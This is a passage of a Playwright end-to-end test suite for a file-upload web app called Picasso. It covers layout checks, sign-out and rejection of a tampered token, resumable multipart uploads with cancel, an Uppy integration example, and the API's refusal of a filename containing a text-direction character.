      // Hovered (and so while a file is dragged over it), the drop zone's text stays readable.
      await hal.hover('#drop-zone');
      await sleep(400);   // past the background's transition
      assert.deepEqual(await violations(hal), [], 'the drop zone hovered');

      const wide = await hal.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      assert.ok(wide <= 0, `no horizontal scroll on a desktop (${wide} px too wide)`);
      await hal.setViewportSize({ width: 390, height: 844 });
      await new Promise((r) => setTimeout(r, 200));
      const overflow = await hal.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
      assert.ok(overflow <= 0, `no horizontal scroll at 390 px (${overflow} px too wide)`);
      await hal.screenshot({ path: SCREENSHOT.replace(/\.png$/, '-narrow.png'), fullPage: true });
      await hal.context().close();
    });
  });

  test('sign-out clears the token and shows the sign-in form', async () => {
    await withLogs(async () => {
      const carol = await newUserPage();
      await signIn(carol, 'carol');
      const carolsId = await uploadThrough(carol, { ...BOBS, name: 'carol.txt' });
      await rowReaches(carol, carolsId, 'processed');
      await carol.click('#sign-out');
      await carol.locator('#sign-in').waitFor({ state: 'visible', timeout: WAIT });
      assert.ok(await carol.locator('#app').isHidden(), 'the list is gone');
      assert.ok(await carol.locator('#session').isHidden(), 'nobody shown as signed in');
      assert.equal(await tokenOf(carol), null, 'the token is gone from the tab');
      assert.equal(await carol.locator('#files tr').count(), 0, "carol's rows are gone");
      await carol.reload();
      await carol.locator('#sign-in').waitFor({ state: 'visible', timeout: WAIT });

      // Someone else in the same tab sees their own (nothing), not carol's.
      await signIn(carol, 'dave');
      await carol.locator('#empty').waitFor({ state: 'visible', timeout: WAIT });
      assert.deepEqual(await listedIds(carol), []);

      // A token the API refuses signs the tab out, with the reason.
      await carol.evaluate(() => {
        const key = Object.keys(sessionStorage).find((k) => k.startsWith('picasso.session:'));
        const s = JSON.parse(sessionStorage.getItem(key));
        const i = s.token.length - 20; // inside the signature
        s.token = s.token.slice(0, i) + (s.token[i] === 'A' ? 'B' : 'A') + s.token.slice(i + 1);
        sessionStorage.setItem(key, JSON.stringify(s));
      });
      await carol.reload();
      await carol.locator('#sign-in').waitFor({ state: 'visible', timeout: WAIT });
      assert.match(await carol.locator('#sign-in-error').textContent(), /signed out: .*signature/);
      await carol.context().close();
    });
  });

  test('a large file goes in parts, resumes after a reload, and ends processed; cancel deletes', async () => {
    await withLogs(async () => {
      // 16 MiB and a bit: parts 1-3 of 5 MiB and a short fourth.
      const bytes = Buffer.alloc(16 * MIB + 123);
      for (let i = 0; i < bytes.length; i += 4096) bytes[i] = (i / 4096) % 251;
      const file = path.join(dataDir, 'big.bin');
      writeFileSync(file, bytes);
      const sha = createHash('sha256').update(bytes).digest('hex');

      // Storage answers parts 1 and 2; 3 and 4 hang until the page is reloaded.
      const partOf = (url) => Number(new URL(url).searchParams.get('partNumber'));
      const sent = [];
      page.on('request', (r) => { if (r.method() === 'PUT' && partOf(r.url())) sent.push(partOf(r.url())); });
      // Parts 3 and 4 hang; before the reload they are aborted, so none of their bytes can reach
      // storage (an unrouted pending request would be let through and race the reload).
      const hung = [];
      let dropping = false;
      await page.route((url) => url.searchParams.has('partNumber'), (route) => {
        if (partOf(route.request().url()) <= 2) route.continue();
        else if (dropping) route.abort();
        else hung.push(route);
      });
      await page.setInputFiles('#file-input', file);
      const id = await (await page.waitForFunction(() => {
        const r = document.querySelector('#uploads li.upload[data-filename="big.bin"]');
        return r && r.dataset.id ? r.dataset.id : false;
      }, null, { timeout: WAIT })).jsonValue();
      const token = await tokenOf(page);
      const held = async () => (await (await fetch(`${api}/files/${id}/parts`, withToken(token))).json()).parts;
      const until = Date.now() + WAIT;
      while ((await held()).length < 2) {
        assert.ok(Date.now() < until, 'parts 1 and 2 reach storage');
        await sleep(100);
      }
      assert.ok(sent.includes(3) || sent.includes(4), `parts go in parallel: ${sent}`);

      // Reload mid-way: the page remembers the upload and waits for its file.
      dropping = true;
      await Promise.all(hung.map((r) => r.abort().catch(() => {})));
      await page.reload();
      const row = uploadRow('big.bin');
      await page.waitForFunction(() => {
        const r = document.querySelector('#uploads li.upload[data-filename="big.bin"] .upload-status');
        return r && r.textContent.startsWith('Paused');
      }, null, { timeout: WAIT });
      await page.unrouteAll({ behavior: 'ignoreErrors' });
      assert.deepEqual((await held()).map((p) => p.part_number), [1, 2], 'storage holds parts 1 and 2 only');
      assert.equal(await row.getAttribute('data-id'), id);
      sent.length = 0;
      await page.setInputFiles('#file-input', file);
      const ended = await (await page.waitForFunction(() => {
        const r = document.querySelector('#uploads li.upload[data-filename="big.bin"]');
        const status = r.querySelector('.upload-status').textContent;
        return status === 'Uploaded' || r.classList.contains('error') ? r.innerText : false;
      }, null, { timeout: WAIT })).jsonValue();
      assert.match(ended, /Uploaded/, 'the upload row ends uploaded');
      await rowReaches(page, id, 'processed');
      assert.deepEqual([...new Set(sent)].sort(), [3, 4], 'only the missing parts are sent again');
      const done = await (await fetch(`${api}/files/${id}`, withToken(token))).json();
      assert.equal(done.sha256, sha, 'the bytes arrived whole and in order');
      assert.equal(await row.locator('.upload-status').textContent(), 'Uploaded');
      assert.equal(await page.evaluate(() => Object.keys(localStorage).filter((k) => k.startsWith('picasso.resume:'))
        .map((k) => Object.keys(JSON.parse(localStorage.getItem(k)))).flat().length), 0, 'nothing left to resume');

      // Cancel: a stalled upload in parts is deleted with its record.
      await page.route((url) => url.searchParams.has('partNumber'), () => {});
      const other = path.join(dataDir, 'cancel-me.bin');
      writeFileSync(other, Buffer.alloc(7 * MIB, 7));
      await page.setInputFiles('#file-input', other);
      const cancelRow = uploadRow('cancel-me.bin');
      await cancelRow.locator('button[data-action="cancel"]').waitFor({ timeout: WAIT });
      const otherId = await cancelRow.getAttribute('data-id');
      await cancelRow.locator('button[data-action="cancel"]').click();
      await page.waitForFunction(() => document.querySelector('#uploads li.upload[data-filename="cancel-me.bin"] .upload-status')
        .textContent === 'Cancelled', null, { timeout: WAIT });
      assert.equal((await fetch(`${api}/files/${otherId}`, withToken(token))).status, 404, 'deleted');
      await page.unrouteAll({ behavior: 'ignoreErrors' });
    });
  });

  test("the README's Uppy example uploads through @uppy/aws-s3 and the file is processed", async () => {
    await withLogs(async () => {
      // examples/uppy.mjs bundled for the browser, run in a signed-in page of the stack's origin.
      const bundle = await build({
        stdin: {
          contents: "import { picassoUppy } from './examples/uppy.mjs'; window.picassoUppy = picassoUppy;",
          resolveDir: ROOT,
        },
        nodePaths: [path.join(ROOT, 'tests/browser/node_modules')],
        bundle: true, format: 'iife', write: false, logLevel: 'silent',
      });
      await page.evaluate(bundle.outputFiles[0].text);
      const token = await tokenOf(page);
      const result = await page.evaluate(async ([api, token]) => {
        const uppy = window.picassoUppy({ api, token: () => token });
        const progress = [];
        uppy.on('upload-progress', (f, p) => progress.push(p.bytesUploaded));
        uppy.addFile({ name: 'from-uppy.txt', type: 'text/plain', data: new Blob(['sent by Uppy\n'.repeat(500)]) });
        const r = await uppy.upload();
        const f = uppy.getFiles()[0];
        return { ok: r.successful.length, failed: r.failed.map((x) => String(x.error)), id: f.meta.picassoId, progress: progress.length };
      }, [api, token]);
      assert.deepEqual(result.failed, []);
      assert.equal(result.ok, 1);
      assert.ok(result.progress > 0, 'Uppy reports progress');
      // The page did not start this upload, so it is not polling for it: wait through the API,
      // then the page's Refresh shows it as a user would see it.
      const until = Date.now() + WAIT;
      while ((await (await fetch(`${api}/files/${result.id}`, withToken(token))).json()).status !== 'processed') {
        assert.ok(Date.now() < until, 'the Uppy upload is processed');
        await sleep(100);
      }
      await page.click('#refresh');
      await rowReaches(page, result.id, 'processed');
      const file = await (await fetch(`${api}/files/${result.id}`, withToken(token))).json();
      assert.equal(file.filename, 'from-uppy.txt');
      assert.equal(file.size, 'sent by Uppy\n'.length * 500);
      // Refused by the API: Uppy shows Picasso's own message.
      const refused = await page.evaluate(async ([api, token]) => {
        const uppy = window.picassoUppy({ api, token: () => token });
        uppy.addFile({ name: 'bad\u202Ename.txt', type: 'text/plain', data: new Blob(['x']) });
        const r = await uppy.upload();
        return r.failed.map((x) => String((x.error && x.error.message) || x.error));
      }, [api, token]);
      assert.equal(refused.length, 1);
      assert.match(refused[0], /filename must not contain invisible or text-direction characters/);
    });
  });

  test('page has no script errors; screenshot saved', async () => {
    await withLogs(async () => {
      assert.deepEqual(pageErrors.filter((e) => e.startsWith('pageerror') || e.startsWith('csp')), []);
      mkdirSync(path.dirname(SCREENSHOT), { recursive: true });
      writeFileSync(SCREENSHOT, await page.screenshot({ fullPage: true }));
      assert.ok(existsSync(SCREENSHOT));
    });
  });
});
